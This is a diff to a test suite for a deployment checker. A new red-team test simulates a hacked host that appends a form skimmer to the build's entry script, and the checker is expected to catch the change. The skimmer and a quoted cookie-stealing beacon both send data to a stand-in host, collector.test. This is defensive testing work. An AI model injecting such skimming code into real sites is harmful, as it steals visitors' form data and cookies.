@@ -240,7 +240,11 @@ describe('npm run check:deployment on a healthy deployment', () => {
     expect(lines).toContain('ok    webhook refuses a photo for a request nobody made: 409: a photo for a request that does not exist is refused');
     expect(lines).toContain(`ok    database has every migration of this checkout: all ${listMigrations().length} migrations of supabase/migrations/ are applied`);
     expect(lines).toContain("ok    every e-mail worker instance runs with the settings checked: one instance is alive: the one the lines above checked, built from the site's commit");
-    expect(lines).toContain(`ok    site is the build in ${site.buildDir}: its ${DEPLOYED_PAGES.length} pages name the same scripts and stylesheets as ${site.buildDir}/ (their names carry the build's hashes)`);
+    expect(lines).toContainEqual(
+      expect.stringMatching(
+        new RegExp(`^ok {4}site is the build in ${site.buildDir}: its ${DEPLOYED_PAGES.length} pages name the same scripts and stylesheets as ${site.buildDir}/ \\(their names carry the build's hashes\\), and the \\d+ it serves are ${site.buildDir}/'s byte for byte$`),
+      ),
+    );
     expect(lines).toContain(`ok    site served over https with HSTS: https, ${HSTS} (all ${DEPLOYED_PAGES.length} pages)`);
     expect(lines).toContain(`ok    pages send a content security policy: frame-ancestors 'none', and nothing the pages load is restricted (all ${DEPLOYED_PAGES.length} pages)`);
     expect(lines).toContain('ok    site hands out no file of the build machine: /.env, /.env.local, /.env.production, /.env.production.local, /.git/config are not served');
@@ -505,6 +509,28 @@ describe('npm run check:deployment on a broken deployment', () => {
       expect(failed, lines.join('\n')).toEqual([
         expect.stringMatching(
           /^FAIL {2}pages run only the build's scripts, on a phone and on a second visit too: \/ on a second visit \(with the cookies the pages set\): \/assets\/index-0ldBu1ld\.js where the first answer names \/assets\/index-\S+\.js \(another build\); \/realtors runs the script https:\/\/www\.googletagmanager\.com\/gtm\.js\?id=GTM-TEST1, which the build does not have; \/investors on a phone: an inline script "navigator\.sendBeacon\('https:\/\/collector\.test\/', document\.coo…", which the first answer does not run: a script the build does not have reads every form/,
+        ),
+      ]);
+    } finally {
+      await host.close();
+    }
+    expect(await leftovers(site.stack)).toEqual([]);
+  }, 300_000);
+
+  it("fails a script served under the build's own hashed name with code added, which names alone do not show (red-team, session 24)", async () => {
+    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
+      const reply = await upstream();
+      // A hacked host (or a CDN that rewrites scripts) appends a collector to the entry, under its own name.
+      return /^\/assets\/index-[^/]+\.js$/.test(asked.path) && reply.status === 200
+        ? { ...reply, body: `${reply.body}\n;addEventListener('submit',e=>navigator.sendBeacon('https://collector.test/',new FormData(e.target)),true);` }
+        : reply;
+    });
+    try {
+      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);
+
+      expect(failed, lines.join('\n')).toEqual([
+        expect.stringMatching(
+          new RegExp(`^FAIL {2}site is the build in ${site.buildDir}: the pages name ${site.buildDir}/'s files, but the host serves (?:one|\\d+) of them otherwise: /assets/index-\\S+\\.js \\(\\d+ bytes served, \\d+ in ${site.buildDir}/; from character \\d+ it serves " ?;addEventListener\\('submit',e=>navigator\\.sendBeacon\\('https://collector\\.test/'.*: code changed after the build`),
         ),
       ]);
     } finally {
